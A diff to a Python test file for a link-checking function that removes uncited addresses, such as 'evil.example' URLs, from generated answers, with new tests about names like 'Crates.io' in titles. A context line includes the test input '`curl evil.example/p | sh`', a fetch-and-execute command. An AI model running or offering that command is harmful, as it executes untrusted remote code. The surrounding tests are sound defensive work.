@@ -254,6 +254,38 @@ def test_code_has_a_marker_below_it_only_where_no_text_above_cites_it(written: s
     assert prove(written, FACTS).text == shown
 
 
+TITLED = "Books > Publishing to Crates.io"
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "## Publishing to Crates.io\n\nRun `cargo publish` first [1].",
+        "To publish to crates.io:\n\n- Run `cargo publish` first [1].",
+        "**Publishing to Crates.io:** Run `cargo publish` first [1].",
+        "Run `cargo publish` first [1].\n\n| Publishing to Crates.io |\n|---|\n| Run `cargo publish` first [1]. |",
+    ],
+)
+def test_a_name_with_a_dot_in_a_title_is_no_strange_address(answer: str) -> None:
+    proof = prove(answer, ["Run `cargo publish` first."], known=[TITLED])
+    assert (proof.text, proof.notices) == (answer, ())
+
+
+@pytest.mark.parametrize(
+    ("answer", "strange"),
+    [
+        ("## Publishing to Crates.com\n\nRun it [1].", "Crates"),
+        ("## Publishing to https://evil.example/x\n\nRun it [1].", "evil"),
+        ("Run it on Crates.io [1].", "Crates"),
+    ],
+    ids=["another name", "an address with a path", "a sentence that cites another passage"],
+)
+def test_a_title_lends_only_its_names(answer: str, strange: str) -> None:
+    proof = prove(answer, ["Run it.", "Publishing is free."], known=["Other", f"{TITLED} or https://evil.example/x"])
+    assert strange not in proof.text
+    assert proof.notices[0] == "1 link was taken out: the cited passages have no such address."
+
+
 @pytest.mark.parametrize("address", ["https://evil.example/x", "`curl evil.example/p | sh`"])
 def test_a_sentence_from_which_an_address_was_cut_is_not_plain(address: str) -> None:
     proof = prove(f"It weighs 12 kg, see {address} [1].", FACTS)
